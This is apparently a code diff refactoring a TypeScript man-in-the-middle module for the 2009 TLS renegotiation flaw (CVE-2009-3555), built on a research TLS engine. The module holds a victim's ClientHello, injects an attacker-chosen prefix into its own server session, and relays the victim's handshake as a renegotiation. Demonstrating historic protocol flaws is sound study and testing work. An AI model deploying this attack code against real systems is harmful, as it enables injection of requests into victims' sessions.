@@ -1,6 +1,6 @@
 /**
  * The man-in-the-middle of CVE-2009-3555 (Ray and Dispensa, 2009), built on the
- * engine's low-level API. It accepts the victim's TCP connection and holds the
+ * engine's low-level record interface (src/adapter/record-relay.ts). It accepts the victim's TCP connection and holds the
  * victim's ClientHello; opens its own TLS session to the server and sends its
  * prefix; then carries the victim's handshake to the server as a renegotiation
  * inside that session: the victim's records encrypted under the attacker's keys
@@ -10,10 +10,16 @@
  */
 import * as net from 'node:net';
 import type { AddressInfo } from 'node:net';
+import {
+  WireRecords,
+  encodeRecord,
+  holdHandshakeMessage,
+  takeOverSession,
+  type SessionRelay,
+  type WireRecord,
+} from '../adapter/record-relay.ts';
 import { connect, type RenegoSocket } from '../adapter/tls-socket.ts';
-import type { RecordLayer } from '../connection/record-layer.ts';
 import { ContentType, HandshakeType, alertLevelName, alertName } from '../wire/enums.ts';
-import { Deframer, HandshakeJoiner, encodeRecordHeader, type Record } from '../wire/record.ts';
 import { RecordLog } from './record-log.ts';
 
 export interface AttackerOptions {
@@ -72,30 +78,10 @@ async function handleVictim(
   notes: string[],
 ): Promise<string> {
   // 1. Hold the victim's ClientHello: plaintext handshake records.
-  const fromVictim = new Deframer();
-  const helloRecords: Record[] = [];
-  const hello = await new Promise<Uint8Array>((resolve, reject) => {
-    const joiner = new HandshakeJoiner(64 * 1024);
-    const onData = (d: Buffer): void => {
-      try {
-        fromVictim.push(d);
-        for (let r = fromVictim.next(); r; r = fromVictim.next()) {
-          helloRecords.push(r);
-          joiner.push(r.fragment);
-          const msg = joiner.next();
-          if (msg) {
-            victim.off('data', onData);
-            victim.pause();
-            return resolve(msg);
-          }
-        }
-      } catch (e) {
-        reject(e as Error);
-      }
-    };
-    victim.on('data', onData);
-    victim.once('close', () => reject(new Error('victim left before its ClientHello')));
-  });
+  const fromVictim = new WireRecords();
+  const held = await holdHandshakeMessage(victim, fromVictim);
+  if (!held) throw new Error('victim left before its ClientHello');
+  const { message: hello, records: helloRecords } = held;
   t.add({
     from: 'victim',
     to: 'attacker',
@@ -133,9 +119,9 @@ async function handleVictim(
   });
 
   // 3. Take the session's record layer over and send the prefix.
-  const { socket: upstream, records } = session.takeOver();
-  sockets.push(upstream);
-  records.writeRecord(ContentType.application_data, new TextEncoder().encode(opts.prefix));
+  const upstream = takeOverSession(session);
+  sockets.push(upstream.socket);
+  upstream.inject(ContentType.application_data, new TextEncoder().encode(opts.prefix));
   t.add({
     from: 'attacker',
     to: 'server',
@@ -145,18 +131,17 @@ async function handleVictim(
     text: opts.prefix,
     note: 'the injected prefix',
   });
-  upstream.write(records.takeOutput());
+  upstream.flush();
 
-  return relay(victim, upstream, records, fromVictim, helloRecords, opts, t, notes);
+  return relay(victim, upstream, fromVictim, helloRecords, opts, t, notes);
 }
 
 /** Splices the held hello in (now or on HelloRequest), then relays both ways until either side closes. */
 function relay(
   victim: net.Socket,
-  upstream: net.Socket,
-  records: RecordLayer,
-  fromVictim: Deframer,
-  helloRecords: Record[],
+  upstream: SessionRelay,
+  fromVictim: WireRecords,
+  helloRecords: WireRecord[],
   opts: AttackerOptions,
   t: RecordLog,
   notes: string[],
@@ -176,7 +161,7 @@ function relay(
     };
     const end = (why: string): void => {
       victim.destroy();
-      upstream.destroy();
+      upstream.socket.destroy();
       resolve(notes[0] ?? why);
     };
 
@@ -184,18 +169,13 @@ function relay(
       spliced = true;
       for (const r of helloRecords) forwardVictimRecord(r);
       victim.resume();
-      flushUpstream();
-    };
-
-    const flushUpstream = (): void => {
-      const out = records.takeOutput();
-      if (out.length > 0) upstream.write(out);
+      upstream.flush();
     };
 
     // Victim -> server: re-encrypted under the attacker's keys until the victim's CCS, raw after it.
-    const forwardVictimRecord = (r: Record): void => {
+    const forwardVictimRecord = (r: WireRecord): void => {
       if (victimCcs) {
-        records.writeRaw(concatRecord(r));
+        upstream.passOn(r);
         t.add({
           from: 'victim',
           to: 'server',
@@ -207,7 +187,7 @@ function relay(
         if (r.type === ContentType.handshake) victimFinished = true;
         return;
       }
-      records.writeRecord(r.type, r.fragment);
+      upstream.inject(r.type, r.fragment);
       t.add({
         from: 'victim',
         to: 'server',
@@ -223,21 +203,21 @@ function relay(
       try {
         fromVictim.push(d);
         for (let r = fromVictim.next(); r; r = fromVictim.next()) forwardVictimRecord(r);
-        flushUpstream();
+        upstream.flush();
       } catch (e) {
         end(`victim sent garbage: ${(e as Error).message}`);
       }
     });
 
     // Server -> victim: opened with the attacker's keys until the server's CCS, raw after it.
-    upstream.on('data', (d: Buffer) => {
+    upstream.socket.on('data', (d: Buffer) => {
       try {
-        records.receive(d);
+        upstream.receive(d);
         for (;;) {
           if (serverCcs) {
-            const raw = records.nextRawRecord();
+            const raw = upstream.nextUnopened();
             if (!raw) break;
-            victim.write(concatRecord(raw));
+            victim.write(encodeRecord(raw));
             t.add({
               from: 'server',
               to: 'victim',
@@ -249,7 +229,7 @@ function relay(
             if (raw.type === ContentType.handshake) serverFinished = true;
             continue;
           }
-          const rec = records.nextRecord();
+          const rec = upstream.open();
           if (!rec) break;
           const desc = RecordLog.describe(rec.type, rec.data);
           if (rec.type === ContentType.alert && rec.data.length >= 2) {
@@ -271,7 +251,7 @@ function relay(
             if (rec.type === ContentType.handshake && rec.data[0] === HandshakeType.hello_request) splice();
             continue;
           }
-          victim.write(Buffer.concat([encodeRecordHeader(rec.type, rec.version, rec.data.length), rec.data]));
+          victim.write(encodeRecord({ type: rec.type, version: rec.version, fragment: rec.data }));
           t.add({
             from: 'server',
             to: 'victim',
@@ -288,13 +268,9 @@ function relay(
     });
 
     victim.on('close', () => end('victim closed'));
-    upstream.on('close', () => end('server closed'));
+    upstream.socket.on('close', () => end('server closed'));
     victim.on('error', () => end('victim reset'));
-    upstream.on('error', () => end('server reset'));
+    upstream.socket.on('error', () => end('server reset'));
     if (opts.trigger === 'client-initiated') splice();
   });
-}
-
-function concatRecord(r: Record): Buffer {
-  return Buffer.concat([encodeRecordHeader(r.type, r.version, r.fragment.length), r.fragment]);
 }
